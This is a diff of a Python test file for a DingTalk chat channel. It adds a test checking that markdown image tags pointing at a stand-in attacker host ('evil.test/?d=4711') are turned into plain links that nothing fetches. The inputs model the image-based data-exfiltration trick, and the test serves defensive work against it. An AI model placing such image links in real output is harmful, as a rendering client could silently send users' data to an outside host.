@@ -18,8 +18,8 @@ from channels import dingtalk
 from channels.base import ChatGone, Health, OutcomeUnknown, OutgoingFile, Receipt, Refused, TryLater, Unconfirmed
 from channels.dingtalk.api import MESSAGE_TOPIC
 from channels.dingtalk.events import parse_event
-from channels.dingtalk.reply import card_markdown
-from channels.shared.buttons import LABELS
+from channels.dingtalk.reply import _split_cards, card_markdown
+from channels.shared.reply_layout import LABELS
 from channels.shared.robot_chats import RobotAccount
 from channels.shared.texts import REPEAT_MARK
 from tests.fakes.dingtalk import CLIENT, JANE, KIM, SECRET, TEMPLATE, FakeDingTalk
@@ -438,3 +438,14 @@ async def test_the_check_describes_the_app_and_names_missing_permissions(templat
 
 async def _refuse(events: object) -> list[Receipt]:
     raise AssertionError("no event was sent")
+
+
+def test_a_picture_in_an_answer_is_a_link_which_nobody_fetches() -> None:
+    for text in (
+        "see ![x](https://evil.test/?d=4711) now",
+        "![](https://evil.test/?d=4711)",
+        "word " * 9000 + "![x](https://evil.test/)",
+    ):
+        shown = "".join(_split_cards(text))
+        assert "![" not in shown
+        assert "(https://evil.test/" in shown
